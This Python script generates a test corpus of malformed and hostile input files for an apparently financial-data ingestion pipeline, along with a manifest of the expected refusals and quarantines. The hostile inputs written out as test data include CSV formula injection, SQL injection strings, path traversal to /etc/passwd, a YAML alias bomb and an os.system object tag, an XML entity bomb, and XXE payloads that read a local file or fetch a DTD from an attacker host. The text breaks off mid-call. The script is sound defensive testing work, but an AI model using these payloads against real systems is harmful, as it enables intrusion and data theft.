"""Generate the bad-input corpus (tests/reliability/corpus/<reader>/...) and its manifest corpus.yml.

    python tests/reliability/make_corpus.py          # rewrites corpus/ and corpus.yml (deterministic)

Every file is a hostile or careless variant of a real layout; its entry in corpus.yml says what must happen:
  expect: refused   message: <text the one-line refusal contains>
  expect: loaded    loaded: N  quarantined: M  duplicate: D  reasons: [<text some quarantine reason contains>, ...]
tests/reliability/test_corpus.py ingests each reader folder (with corpus/base_fx.csv) and checks every entry,
plus the reconciliation (read = loaded + quarantined + duplicate) of every file.
The files are committed as well, so the corpus does not change when this script changes by accident.
"""

from __future__ import annotations

import codecs
import shutil
from pathlib import Path

import yaml

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
MANIFEST = HERE / "corpus.yml"

entries: dict[str, dict] = {}


def put(rel: str, data: bytes | str, case: str, **expect) -> None:
    path = CORPUS / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    if expect:
        expect.setdefault("expect", "loaded")
        if expect["expect"] == "loaded":
            expect.setdefault("quarantined", 0)
            expect.setdefault("duplicate", 0)
        entries[rel] = {"reader": rel.split("/")[0], "case": case, **expect}


def refused(message: str) -> dict:
    return {"expect": "refused", "message": message}


# --------------------------------------------------------------------------------------------- base FX rates
def base_fx() -> None:
    days = [f"2026-03-{d:02d}" for d in range(1, 32)] + [f"2025-11-{d:02d}" for d in range(1, 4)]
    rates = (("THB", "0.028"), ("USDT", "1"), ("EUR", "1.08"), ("ETH", "3000"), ("TRX", "0.25"), ("SGD", "0.74"))
    body = "date,currency,usd_per_unit\n" + "".join(f"{d},{c},{r}\n" for d in days for c, r in rates)
    put("base_fx.csv", body, "rates every corpus folder is ingested with (not a test case)")


# --------------------------------------------------------------------------------------------- delimited
BANK_MAPPING = """\
name: corpus_bank
files: ["bank_*.csv", "bank_*.txt"]
constants: {institution: TESTTHBK, country: TH}
columns: {txn_id: ref, booked_at: t, account: acct, counterparty_account: cp, amount: amt, currency: ccy, reference: memo}
"""
SEMI_MAPPING = """\
name: corpus_semi
files: ["semi_*.csv"]
delimiter: ";"
decimal: ","
thousands: "."
constants: {institution: TESTTHBK, currency: THB}
columns: {txn_id: Ref, booked_at: Datum, account: Konto, counterparty_account: Gegenkonto, amount: Betrag}
"""
NY_MAPPING = """\
name: corpus_newyork
files: ["ny_*.csv"]
timezone: America/New_York
constants: {institution: TESTUSBK, currency: USD}
columns: {txn_id: ref, booked_at: t, account: acct, counterparty_account: cp, amount: amt}
"""
OFFSET_MAPPING = """\
name: corpus_offsets
files: ["tz_*.csv"]
datetime_formats: ["%Y-%m-%dT%H:%M:%S%:z", "%Y-%m-%d %H:%M:%S%z"]
constants: {institution: TESTTHBK, currency: THB}
columns: {txn_id: ref, booked_at: t, account: acct, counterparty_account: cp, amount: amt}
"""
HDR = "ref,t,acct,cp,amt,ccy,memo"


def brow(ref: str, t: str = "2026-03-02 10:00:00", acct: str = "111", cp: str = "222", amt: str = "100.00",
         ccy: str = "THB", memo: str = "ok") -> str:
    return ",".join([ref, t, acct, cp, amt, ccy, memo])


def bank(name: str, rows: list[str], nl: str = "\n", header: str = HDR, end: str = "\n") -> str:
    return nl.join([header, *rows]) + end


def delimited() -> None:
    d = "delimited/"
    put(d + "bank.mapping.yml", BANK_MAPPING, "mapping for bank_*")
    put(d + "semi.mapping.yml", SEMI_MAPPING, "mapping for semi_*")
    put(d + "ny.mapping.yml", NY_MAPPING, "mapping for ny_* (America/New_York)")
    put(d + "tz.mapping.yml", OFFSET_MAPPING, "mapping for tz_* (times with offsets)")

    put(d + "bank_00_baseline.csv", bank("", [brow("B00-1"), brow("B00-2", amt="5"), brow("B00-3", amt="-7.25")]),
        "well-formed control file", loaded=3)
    put(d + "bank_01_truncated_record.csv",
        bank("", [brow("B01-1"), brow("B01-2")], end="\n") + "B01-3,2026-03-02 10:00:00,111,22",
        "file cut off in the middle of the last record (no newline)",
        loaded=2, quarantined=1, reasons=["record: wrong number of fields"])
    put(d + "bank_02_truncated_in_quote.csv",
        bank("", [brow("B02-1")]) + 'B02-2,2026-03-02 10:00:00,111,222,5,THB,"memo cut',
        "file cut off inside an open quoted field at the very end: the record loads with the text up to the cut "
        "(a known limit, see docs/guarantees.md)", loaded=2)
    put(d + "bank_03_truncated_utf8_char.csv",
        bank("", [brow("B03-1", memo="ค่าโอน")]).encode() + "ค".encode()[:2],
        "file cut off inside a multi-byte UTF-8 character", **refused("ends inside a character"))
    put(d + "bank_04_cp874_declared_utf8.csv",
        bank("", [brow("B04-1", memo="ค่าโอนเงิน")]).encode("cp874"),
        "Thai Windows-874 bytes in a file the mapping declares UTF-8", **refused("not valid utf-8"))
    put(d + "bank_05_latin1.csv", bank("", [brow("B05-1", memo="Zahlung für Müller")]).encode("latin-1"),
        "Latin-1 umlauts in a UTF-8 file", **refused("not valid utf-8"))
    put(d + "bank_06_utf16_bom.csv", codecs.BOM_UTF16_LE + bank("", [brow("B06-1"), brow("B06-2")]).encode("utf-16-le"),
        "UTF-16 LE with BOM (Excel 'Unicode text')", loaded=2)
    put(d + "bank_07_utf16_no_bom.csv", bank("", [brow("B07-1")]).encode("utf-16-le"),
        "UTF-16 LE without BOM", **refused("NUL character"))
    put(d + "bank_08_utf8_bom.csv", codecs.BOM_UTF8 + bank("", [brow("B08-1"), brow("B08-2")]).encode(),
        "UTF-8 with BOM", loaded=2)
    put(d + "bank_09_mixed_line_endings.csv",
        HDR + "\r\n" + brow("B09-1") + "\n" + brow("B09-2") + "\r" + brow("B09-3") + "\r\n" + brow("B09-4") + "\n",
        "CRLF, LF and bare CR line endings in one file", loaded=4)
    put(d + "bank_10_embedded_nul.csv", bank("", [brow("B10-1"), brow("B10-2", memo="ab\x00cd")]),
        "a NUL byte inside a cell", **refused("NUL character"))
    put(d + "bank_11_huge_field.csv", bank("", [brow("B11-1"), brow("B11-2", memo="A" * (6 * 1024 * 1024))]),
        "a 6 MiB remittance text (larger than the CSV block size)", loaded=2)
    put(d + "bank_12_formula_cells.csv",
        bank("", [brow("B12-1", memo='"=HYPERLINK(""http://evil.example"",""click"")"'),
                  brow("B12-2", memo="+cmd|' /C calc'!A0"), brow("B12-3", memo="@SUM(1+1)*cmd|' /C calc'!A0"),
                  brow("B12-4", cp="-2+3"), brow("B12-5", amt="=1+2")]),
        "cells a spreadsheet would run as formulas: kept verbatim (exports neutralise them); a formula amount is refused",
        loaded=4, quarantined=1, reasons=["amount: not a number: '=1+2'"])
    put(d + "bank_13_unbalanced_quote.csv",
        bank("", [brow("B13-1"), 'B13-2,2026-03-02 10:00:00,111,222,5,THB,"unclosed memo', brow("B13-3"), brow("B13-4")]),
        "an opening quote that is never closed swallows the rest of the file into one record (kept in quarantine)",
        loaded=1, quarantined=1, reasons=["record: wrong number of fields"])
    put(d + "bank_14_stray_quote_mid_field.csv",
        bank("", [brow("B14-1", memo='he said "pay now" twice'), brow("B14-2")]),
        "a quote in the middle of an unquoted field", loaded=2)
    put(d + "bank_15_duplicated_header_name.csv", bank("", [brow("B15-1") + ",x"], header=HDR + ",memo"),
        "two columns named alike", **refused("duplicated column name"))
    put(d + "bank_16_header_repeated_inside.csv", bank("", [brow("B16-1"), HDR, brow("B16-2")]),
        "two exports concatenated: the header line appears again as a record",
        loaded=2, quarantined=1, reasons=["booked_at: does not match", "amount: not a number: 'amt'"])
    put(d + "bank_17_scientific_amounts.csv",
        bank("", [brow("B17-1"), brow("B17-2", amt="1.5E+7"), brow("B17-3", amt="1e3"), brow("B17-4", amt="-2.5e-3")]),
        "scientific notation written by a spreadsheet", loaded=1, quarantined=3, reasons=["scientific notation"])
    put(d + "bank_18_overflowing_amounts.csv",
        bank("", [brow("B18-1", amt="99999999999999.99"), brow("B18-2", amt="123456789012345678901234"),
                  brow("B18-3", amt="1" + "0" * 40), brow("B18-4", amt="0.0000000000000000001"),
                  brow("B18-5", amt="9" * 20)]),
        "amounts too large for DECIMAL(38,18), too precise, or whose USD value overflows DECIMAL(18,2)",
        loaded=1, quarantined=4, reasons=["is too large", "more than 18 decimals", "amount_usd: the USD value is too large"])
    put(d + "bank_19_impossible_dates.csv",
        bank("", [brow("B19-1"), brow("B19-2", t="2026-02-30 10:00:00"), brow("B19-3", t="2026-13-01 10:00:00"),
                  brow("B19-4", t="2026-03-02 24:00:00"), brow("B19-5", t="0000-00-00 00:00:00"),
                  brow("B19-6", t="2026-03-02 10:61:00"), brow("B19-7", t="1900-01-01 00:00:00"),
                  brow("B19-8", t="9999-12-31 23:59:59")]),
        "dates that do not exist, far past and far future", loaded=1, quarantined=7,
        reasons=["booked_at: does not match", "booked_at: in the future", "booked_at: before 1970"])
    put(d + "bank_20_zero_and_sign_amounts.csv",
        bank("", [brow("B20-1", amt="0"), brow("B20-2", amt="-0.00"), brow("B20-3", amt="(12.50)"),
                  brow("B20-4", amt="12.50-"), brow("B20-5", amt="--5"), brow("B20-6", amt="١٢٣")]),
        "zero amounts, accounting negatives, doubled signs (ambiguous: refused), non-ASCII digits",
        loaded=2, quarantined=4, reasons=["amount: must be greater than zero", "amount: not a number: '--5'",
                                          "amount: not a number: '١٢٣'"])
    put(d + "bank_21_ragged_rows.csv",
        bank("", [brow("B21-1"), brow("B21-2") + ",extra,fields", "B21-3,2026-03-02 10:00:00,111"]),
        "rows with too many and too few fields", loaded=1, quarantined=2, reasons=["record: wrong number of fields"])
    put(d + "bank_22_duplicate_rows.csv", bank("", [brow("B22-1"), brow("B22-1"), brow("B22-2")]),
        "the same record twice in one file (same bank reference)", loaded=2, duplicate=1)
    put(d + "bank_23_control_chars.csv",
        bank("", [brow("B23-1", memo="\x1b[31mred\x1b[0m\x07bell"), brow("B23-2", cp="\u202eevil\u202c"),
                  brow("B23-3", memo="tab\there")]),
        "terminal escapes, bidi overrides and tabs in cells: kept verbatim", loaded=3)
    put(d + "bank_24_path_traversal_ids.csv",
        bank("", [brow("B24-1", cp="../../../../etc/passwd"), brow("../../B24-2", acct="..\\..\\windows"),
                  brow("B24-3", cp="/abs/path")]),
        "account numbers and references that look like paths (must never become output paths)", loaded=3)
    put(d + "bank_25_binary_garbage.csv", bytes(range(256)) * 8,
        "binary bytes with a .csv name claimed by the mapping", **refused("byte 128: not valid utf-8"))
    put(d + "bank_26_empty.csv", b"", "zero-byte file", **refused("empty file"))
    put(d + "bank_27_blank_lines_only.csv", "\n\n\r\n\n", "only blank lines", **refused("empty file"))
    put(d + "bank_28_missing_currency_and_account.csv",
        bank("", [brow("B28-1"), brow("B28-2", ccy=""), brow("B28-3", acct=""), brow("B28-4", ccy="XXX1")]),
        "required values missing or junk", loaded=1, quarantined=3,
        reasons=["currency: missing value", "account: missing value", "currency: not an ISO 4217"])
    put(d + "bank_29_sql_injection_text.csv",
        bank("", [brow("B29-1", memo="'); DROP TABLE transactions; --"), brow("B29-2", cp="x' OR '1'='1")]),
        "SQL in cell text is data", loaded=2)
    put(d + "bank_35_header_only_no_newline.csv", HDR, "the header alone, without a line break",
        **refused("no data rows"))
    put(d + "bank_36_huge_first_line.csv", "ref,t,acct,cp,amt,ccy,memo" + "x" * (5 * 1024 * 1024),
        "a first line of 5 MiB without a line break", **refused("longer than 4 MiB"))
    put(d + "bank_37_huge_header_field.csv", "ref,t,acct,cp,amt,ccy,memo" + "y" * 200_000 + "\n" + brow("B37-1") + "\n",
        "a 200 kB column name (over the csv module's field limit)", **refused("header line cannot be read"))
    put(d + "bank_38_unnamed_columns.csv", bank("", [brow("B38-1") + ",,", brow("B38-2") + ",x,"], header=HDR + ",,"),
        "two unnamed columns from trailing delimiters (spreadsheet export)", loaded=2)
    # semicolon / decimal comma layout
    put(d + "semi_30_thousands_and_decimal_comma.csv",
        "Ref;Datum;Konto;Gegenkonto;Betrag\n"
        "S30-1;2026-03-02 10:00:00;111;222;1.234,56\n"
        "S30-2;2026-03-02 10:00:00;111;222;1,234.56\n"
        "S30-3;2026-03-02 10:00:00;111;222;-12,5\n"
        "S30-4;2026-03-02 10:00:00;111;222;1 234,00\n",
        "decimal comma and dot thousands; a dot-decimal amount in a comma-decimal file",
        loaded=3, quarantined=1, reasons=["amount: not a number: '1,234.56'"])
    put(d + "semi_31_wrong_delimiter.csv",
        "Ref,Datum,Konto,Gegenkonto,Betrag\nS31-1,2026-03-02 10:00:00,111,222,5\n",
        "comma-separated file where the mapping says semicolon", **refused("not in the header"))
    # time zones
    put(d + "ny_32_dst_gap.csv",
        "ref,t,acct,cp,amt\n"
        "N32-1,2026-03-08 01:59:59,111,222,5\n"
        "N32-2,2026-03-08 02:30:00,111,222,5\n"
        "N32-3,2026-03-08 03:00:00,111,222,5\n",
        "a local time inside the spring-forward gap of America/New_York does not exist",
        loaded=2, quarantined=1, reasons=["does not exist in America/New_York"])
    put(d + "ny_33_dst_ambiguous.csv",
        "ref,t,acct,cp,amt\nN33-1,2025-11-02 01:30:00,111,222,5\nN33-2,2025-11-02 00:59:00,111,222,5\n",
        "a local time in the repeated hour of the autumn change (taken as the earlier, daylight-time instant)",
        loaded=2)
    put(d + "tz_34_offsets.csv",
        "ref,t,acct,cp,amt\n"
        "T34-1,2026-03-02T10:00:00+14:00,111,222,5\n"
        "T34-2,2026-03-02T10:00:00-12:00,111,222,5\n"
        "T34-3,2026-03-02T10:00:00+05:45,111,222,5\n"
        "T34-4,2026-03-02 10:00:00+0000,111,222,5\n"
        "T34-5,2026-03-02T10:00:00+25:00,111,222,5\n"
        "T34-6,2026-03-02T10:00:00,111,222,5\n",
        "extreme and odd UTC offsets; an impossible +25:00; a time without the required offset",
        loaded=4, quarantined=2, reasons=["booked_at: does not match"])


# --------------------------------------------------------------------------------------------- explorers
TRC20_HDR = "Tx Hash,blockHeight,blockTime(UTC+8),blockTime(UTC),from,to,value,symbol,tokenAddress,isConfirm"
USDT_TRON = "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t"


def trow(h: str, value: str = "100.5", t: str = "2026/03/02 10:00:00", frm: str = "TFromAddr1111111111111111111111111",
         to: str = "TToAddr22222222222222222222222222", ok: str = "true", symbol: str = "USDT") -> str:
    return ",".join([h, "70000000", t, t, frm, to, value, symbol, USDT_TRON, ok])


ERC_HDR = "Transaction Hash,Blockno,UnixTimestamp,DateTime (UTC),From,To,TokenValue,USDValueDayOfTx,ContractAddress,TokenName,TokenSymbol"


def erow(h: str, value: str = "250", unix: str = "1772445600", frm: str = "0xAAAaaa0000000000000000000000000000000001",
         to: str = "0xbbb0000000000000000000000000000000000002") -> str:
    return ",".join([h, "21000000", unix, "2026-03-02 10:00:00", frm, to, value, "$250", "0xdac17f958d2ee523a2206206994597c13d831ec7",
                     "Tether USD", "USDT"])


def explorers() -> None:
    d = "explorers/"
    put(d + "tron_00_baseline.csv", "\n".join([TRC20_HDR, trow("e00a"), trow("e00b", "5")]) + "\n",
        "well-formed Tronscan TRC-20 export", loaded=2)
    put(d + "tron_01_truncated.csv", "\n".join([TRC20_HDR, trow("e01a"), trow("e01b")[:60]]),
        "export cut off mid-record", loaded=1, quarantined=1, reasons=["record: wrong number of fields"])
    put(d + "tron_02_amount_edge_cases.csv",
        "\n".join([TRC20_HDR, trow("e02a", "1e+21"), trow("e02b", "1" + "0" * 30), trow("e02c", "-5"),
                   trow("e02d", "0.000001"), trow("e02e", '"1,000,000.5"'), trow("e02f", "NaN"), trow("e02g", "inf")]) + "\n",
        "scientific, overflowing, negative, tiny, thousands-separated, NaN and inf token values",
        loaded=2, quarantined=5,
        reasons=["value: scientific notation", "value: '1000000000000000000000000000000' is too large", "value: negative",
                 "value: not a number: 'NaN'"])
    put(d + "tron_03_impossible_times.csv",
        "\n".join([TRC20_HDR, trow("e03a", t="2026/02/30 10:00:00"), trow("e03b", t="2026/03/02 25:00:00"),
                   trow("e03c", t="yesterday"), trow("e03d")]) + "\n",
        "explorer times that do not exist", loaded=1, quarantined=3, reasons=["time: not an explorer timestamp"])
    put(d + "tron_04_unconfirmed.csv",
        "\n".join([TRC20_HDR, trow("e04a", ok="false"), trow("e04b", ok=""), trow("e04c")]) + "\n",
        "unconfirmed transfers are quarantined, not loaded", loaded=1, quarantined=2, reasons=["status: transfer failed"])
    put(d + "tron_05_nul.csv", ("\n".join([TRC20_HDR, trow("e05a"), trow("e05\x00b")]) + "\n"),
        "NUL inside a hash", **refused("NUL character"))
    put(d + "tron_06_formula_addresses.csv",
        "\n".join([TRC20_HDR, trow("e06a", frm="=cmd|' /C calc'!A0"), trow("e06b", to="@SUM(A1)")]) + "\n",
        "formula-looking addresses are data", loaded=2)
    put(d + "tron_07_missing_fields.csv",
        "\n".join([TRC20_HDR, trow("", "1"), trow("e07b", frm=""), trow("e07c", symbol="")]) + "\n",
        "hash, sender or symbol missing", loaded=0, quarantined=3,
        reasons=["tx_hash: missing value", "from: missing value", "symbol: unknown token"])
    put(d + "erc_08_unix_time_edges.csv",
        "\n".join([ERC_HDR, erow("0xe08a"), erow("0xe08b", unix="99999999999999999999"), erow("0xe08c", unix="-1"),
                   erow("0xe08d", unix="9000000000000000"), erow("0xe08e", unix="1.7e9"), erow("0xe08f", unix="")]) + "\n",
        "Unix timestamps overflowing int64, negative, beyond year 9999, scientific, empty",
        loaded=1, quarantined=5, reasons=["time: not an explorer timestamp", "booked_at: before 1970"])
    put(d + "erc_09_duplicate_transfer.csv", "\n".join([ERC_HDR, erow("0xe09a"), erow("0xE09A"), erow("0xe09b", "7")]) + "\n",
        "the same transfer twice (hash case differs)", loaded=2, duplicate=1)
    put(d + "erc_10_precision.csv",
        "\n".join([ERC_HDR, erow("0xe10a", "0.000000000000000001"), erow("0xe10b", "0.0000000000000000001"),
                   erow("0xe10c", "12345678901234567890.123456789012345678"), erow("0xe10d", "500000000.123456789")]) + "\n",
        "18 decimals (wei) load exactly; 19 are refused rather than rounded; USD 500 M converts; USD 1.2e19 is too "
        "large for DECIMAL(18,2)", loaded=2, quarantined=2, reasons=["more than 18 decimals", "amount_usd: the USD value is too large"])
    put(d + "erc_11_duplicated_header.csv", ERC_HDR + ",From\n" + erow("0xe11a") + ",x\n",
        "header with a column twice", **refused("duplicated column name"))


# --------------------------------------------------------------------------------------------- own CSV layouts
def own_csv() -> None:
    d = "own_csv/"
    put(d + "fx_00_bad_rates.csv",
        "date,currency,usd_per_unit\n2026-03-15,MMK,0.00048\n2026-03-16,MMK,-1\n2026-03-17,MMK,0\n"
        "2026-02-30,MMK,0.0005\n2026-03-18,MMK,4.8E-4\n2026-03-19,MMK,abc\n",
        "negative, zero, scientific and junk rates; an impossible date", loaded=1, quarantined=5,
        reasons=["usd_per_unit: must be greater than zero", "date: not YYYY-MM-DD", "usd_per_unit: scientific notation",
                 "usd_per_unit: not a number"])
    put(d + "fx_01_conflicting_duplicate.csv",
        "date,currency,usd_per_unit\n2026-03-20,MMK,0.00048\n2026-03-20,MMK,0.00050\n",
        "the same day and currency twice with different rates in one file", loaded=1, duplicate=1)
    put(d + "parties_02_bad_values.csv",
        "party_id,party_type,name,birth_date,phone,email\n"
        "P02-1,person,Somchai Jaidee,1980-02-29,+66 81-234-5678,a@b.example\n"
        "P02-2,person,Nobody,1981-02-29,,\n"
        "P02-3,alien,Zork,,,\n"
        "P02-4,legal,,,,\n"
        "P02-5,legal,\"=HYPERLINK(\"\"http://x\"\")\",,,\n",
        "impossible birthday, unknown party type, missing name, formula-looking name", loaded=2, quarantined=3,
        reasons=["birth_date: not YYYY-MM-DD", "party_type: must be person or legal", "name: missing value"])
    put(d + "parties_03_truncated_quote.csv",
        'party_id,party_type,name\nP03-1,person,Ann\nP03-2,person,"Bob\n',
        "file ends inside a quoted name: loads with the name up to the cut (known limit)", loaded=2)
    put(d + "parties_04_windows1252.csv", "party_id,party_type,name\nP04-1,person,Jos\xe9 M\xfcller\n".encode("cp1252"),
        "Windows-1252 bytes in a UTF-8 layout (the layout cannot be recognised)", **refused("unknown layout"))
    put(d + "accounts_05_bad_values.csv",
        "rail,account,institution,chain,opened_at,kind\n"
        "bank,123-456,TESTTHBK,,2024-01-01,customer\n"
        "crypto,TXyz111,,,2024-01-01,customer\n"
        "ship,999,TESTTHBK,,,\n"
        "bank,124,TESTTHBK,,2024-02-30,\n"
        "bank,125,TESTTHBK,,2999-01-01,\n"
        "bank,,TESTTHBK,,,\n",
        "crypto without chain, unknown rail, impossible / future opening, no account", loaded=1, quarantined=5,
        reasons=["chain: required", "rail: must be bank or crypto", "opened_at: not an ISO 8601 time",
                 "opened_at: in the future", "account: missing value"])
    put(d + "events_06_offsets_and_coordinates.csv",
        "event_id,occurred_at,kind,party_id,ip,lat,lon\n"
        "E06-1,2026-03-02T10:00:00+14:00,login,P1,203.0.113.5,16.6,98.5\n"
        "E06-2,2026-03-02T10:00:00-12:00,login,P1,203.0.113.5,,\n"
        "E06-3,2026-03-02T10:00:00+05:45,login,P1,,,\n"
        "E06-4,2026-03-02T10:00:00Z,login,P1,,,\n"
        "E06-5,2026-03-02T10:00:00+25:00,login,P1,,,\n"
        "E06-6,2026-03-02T10:00:00,login,P1,,999,0\n"
        "E06-7,2026-03-02T10:00:00,login,P1,,abc,0\n"
        "E06-8,2026-03-02T10:00:00,login,P1,,NaN,inf\n"
        "E06-9,2026-03-31T24:00:00,login,P1,,,\n",
        "offsets +14:00 / -12:00 / +05:45 / Z; impossible offset and hour; coordinates out of range, junk, NaN",
        loaded=4, quarantined=5,
        reasons=["occurred_at: not an ISO 8601 time", "lat: must be within -90..90", "lat: not a number"])
    put(d + "events_07_huge_and_many_columns.csv",
        "event_id,occurred_at,kind," + ",".join(f"x{i}" for i in range(2000)) + "\n"
        + "E07-1,2026-03-02T10:00:00Z,login," + ",".join("v" for _ in range(2000)) + "\n"
        + "E07-2,2026-03-02T10:00:00Z,login," + "B" * 100_000 + "," + ",".join("v" for _ in range(1999)) + "\n",
        "2,000 extra columns and a 100 kB cell", loaded=2)
    put(d + "events_08_mixed_endings_and_blank_lines.csv",
        "event_id,occurred_at,kind\r\nE08-1,2026-03-02T10:00:00Z,login\r\n\r\nE08-2,2026-03-02T10:00:00Z,login\rE08-3,2026-03-02T10:00:00Z,login\n\n",
        "CRLF / CR / LF and blank lines", loaded=3)


# --------------------------------------------------------------------------------------------- compound registry
COMPOUND = """\
  - id: {id}
    name: {name}
    country: MM
    lat: 16.64
    lon: 98.51
    radius_km: 3
    ip_cidrs: [203.0.113.0/24]
    confidence: 0.8
"""


def compounds() -> None:
    d = "compounds/"
    put(d + "c00_baseline.yml", "compounds:\n" + COMPOUND.format(id="c00_kk", name="KK Park"), "control file", loaded=1)
    put(d + "c01_not_yaml.yml", "compounds:\n  - id: c01\n    name: [unclosed\n", "broken YAML", **refused("not valid YAML"))
    bomb = ["compounds:", "  - id: c02_bomb", "    name: bomb", '    aliases: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        bomb.append(f"    x{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    bomb.append("    sources: *a9")
    put(d + "c02_alias_bomb.yml", "\n".join(bomb) + "\n",
        "YAML 'billion laughs' through aliases (10^9 strings if expanded)", **refused("expands to more than 1,000,000 values"))
    put(d + "c03_python_tag.yml", "compounds:\n  - id: !!python/object/apply:os.system ['echo pwned']\n    name: x\n",
        "a Python object tag (code execution with an unsafe loader)", **refused("not valid YAML"))
    put(d + "c04_not_a_list.yml", "compounds:\n  id: c04\n  name: x\n", "compounds is a mapping, not a list",
        **refused("expected a top-level 'compounds:' list"))
    put(d + "c05_bad_entries.yml",
        "compounds:\n" + COMPOUND.format(id="c05_ok", name="OK")
        + "  - just a string\n"
        + "  - {id: c05_b, name: B, lat: north}\n"
        + "  - {id: c05_c, name: C, lat: .nan, lon: .inf}\n"
        + "  - {id: c05_d, name: D, colour: red}\n"
        + "  - {id: c05_e, name: E, lat: 91, confidence: 7}\n"
        + "  - {name: no id}\n",
        "entries that are not mappings, junk / NaN / out-of-range numbers, unknown fields, no id", loaded=1, quarantined=6,
        reasons=["entry: not a mapping", "lat: not a number", "fields: unknown", "lat: must be within -90..90",
                 "compound_id: missing value"])
    put(d + "c06_duplicate_ids.yml",
        "compounds:\n" + COMPOUND.format(id="c06_dup", name="First") + COMPOUND.format(id="c06_dup", name="Second"),
        "the same compound id twice", loaded=1, duplicate=1)
    put(d + "c07_latin1.yml", ("compounds:\n" + COMPOUND.format(id="c07", name="Caf\xe9 Compound")).encode("latin-1"),
        "Latin-1 bytes in the registry", **refused("unknown layout"))
    put(d + "c08_empty_list.yml", "compounds: []\n", "an empty registry", **refused("unknown layout"))


# --------------------------------------------------------------------------------------------- camt
CAMT_NS = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"


def ntry(ref: str, amt: str = "100.00", cdi: str = "CRDT", booked: str = "<Dt>2026-03-02</Dt>", sts: str = "BOOK",
         ccy: str = "EUR", ustrd: str = "payment") -> str:
    return (f"<Ntry><Amt Ccy=\"{ccy}\">{amt}</Amt><CdtDbtInd>{cdi}</CdtDbtInd><Sts><Cd>{sts}</Cd></Sts>"
            f"<BookgDt>{booked}</BookgDt><AcctSvcrRef>{ref}</AcctSvcrRef>"
            f"<NtryDtls><TxDtls><Refs><AcctSvcrRef>{ref}</AcctSvcrRef></Refs><RltdPties><Dbtr><Nm>Payer</Nm></Dbtr>"
            f"<DbtrAcct><Id><IBAN>FR7630006000011234567890189</IBAN></Id></DbtrAcct></RltdPties>"
            f"<RmtInf><Ustrd>{ustrd}</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>\n")


def camt(entries: str, ns: str = CAMT_NS, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n', stmt: bool = True) -> str:
    acct = "<Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Svcr><FinInstnId><BICFI>COBADEFFXXX</BICFI></FinInstnId></Svcr></Acct>"
    body = f"<Stmt><Id>S1</Id>{acct}\n{entries}</Stmt>" if stmt else f"<Foo>{entries}</Foo>"
    return f'{prolog}<Document xmlns="{ns}"><BkToCstmrStmt><GrpHdr><MsgId>M1</MsgId></GrpHdr>{body}</BkToCstmrStmt></Document>\n'


def camt_files() -> None:
    d = "camt/"
    put(d + "x00_baseline.xml", camt(ntry("X00-1") + ntry("X00-2", cdi="DBIT")), "well-formed camt.053.001.08", loaded=2)
    full = camt(ntry("X01-1") + ntry("X01-2"))
    put(d + "x01_truncated.xml", full[: len(full) // 2 + 40], "file cut off half way",
        **refused("not well-formed XML"))
    laughs = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", '  <!ENTITY lol "lol">']
    for i in range(1, 10):
        laughs.append(f'  <!ENTITY lol{i} "' + f"&lol{i - 1 if i > 1 else ''};" * 10 + '">')
    laughs += ["]>", f'<Document xmlns="{CAMT_NS}"><BkToCstmrStmt><Stmt><Id>&lol9;</Id></Stmt></BkToCstmrStmt></Document>']
    put(d + "x02_billion_laughs.xml", "\n".join(laughs) + "\n", "XML entity expansion bomb",
        **refused("DOCTYPE/ENTITY declaration refused"))
    put(d + "x03_xxe_file.xml",
        '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        + camt(ntry("X03-1", ustrd="&xxe;"), prolog=""),
        "external entity reading a local file", **refused("DOCTYPE/ENTITY declaration refused"))
    put(d + "x04_xxe_network.xml",
        '<?xml version="1.0"?>\n<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">\n' + camt(ntry("X04-1"), prolog=""),
        "external DTD fetched over the network", **refused("DOCTYPE/ENTITY declaration refused"))
    put(d + "x05_doctype_after_64k.xml",
        '<?xml version="1.0"?>\n' + "<!--" + " " * 70_000 + "-->\n"
        + '<!DOCTYPE d [<!ENTITY e "x">]>\n' + camt(ntry("X05-1", ustrd="&e;"), prolog=""),
        "a DTD hidden behind 70 kB of comment (past the prolog scan): not even recognised as camt", **refused("unknown layout"))
    put(d + "x06_deeply_nested.xml",
        camt(ntry("X06-1", ustrd="<a>" * 5000 + "x" + "</a>" * 5000)), "5,000 nested elements inside an entry",
        **refused("not well-formed XML"))
    put(d + "x07_utf16_doctype.xml",
        ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY e "x">]>\n' + camt(ntry("X07-1"), prolog="")).encode("utf-16"),
        "a DTD in a UTF-16 document", **refused("DOCTYPE"))
    put(d + "x08_bad_values.xml",
        camt(ntry("X08-1") + ntry("X08-2", amt="1.5E+3") + ntry("X08-3", amt="123456789012345678901234.00")
             + ntry("X08-4", booked="<Dt>2026-02-30</Dt>") + ntry("X08-5", booked="<DtTm>2026-03-02T25:00:00</DtTm>")
             + ntry("X08-6", cdi="BOTH") + ntry("X08-7", sts="PDNG") + ntry("X08-8", amt="-5.00")
             + ntry("X08-9", booked="<DtTm>2026-03-02T10:00:00+14:00</DtTm>")),
        "scientific / overflowing / negative amounts, impossible dates, bad direction, pending entry",
        loaded=2, quarantined=7,
        reasons=["amount: not a plain decimal", "booked_at: not an ISO date", "direction: CdtDbtInd must be",
                 "status: entry is PDNG"])
    put(d + "x09_unsupported_version.xml", camt(ntry("X09-1"), ns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.99"),
        "camt.053 version 001.99", **refused("not supported"))
    put(d + "x10_no_statement.xml", camt(ntry("X10-1"), stmt=False), "no <Stmt> element", **refused("no <Stmt> element"))
    put(d + "x11_bad_char_ref.xml", camt(ntry("X11-1", ustrd="a&#0;b")), "a character reference to NUL",
        **refused("not well-formed XML"))
    put(d + "x12_wrong_declared_encoding.xml",
        camt(ntry("X12-1", ustrd="Zahlung f\xfcr M\xfcller")).encode("latin-1"),
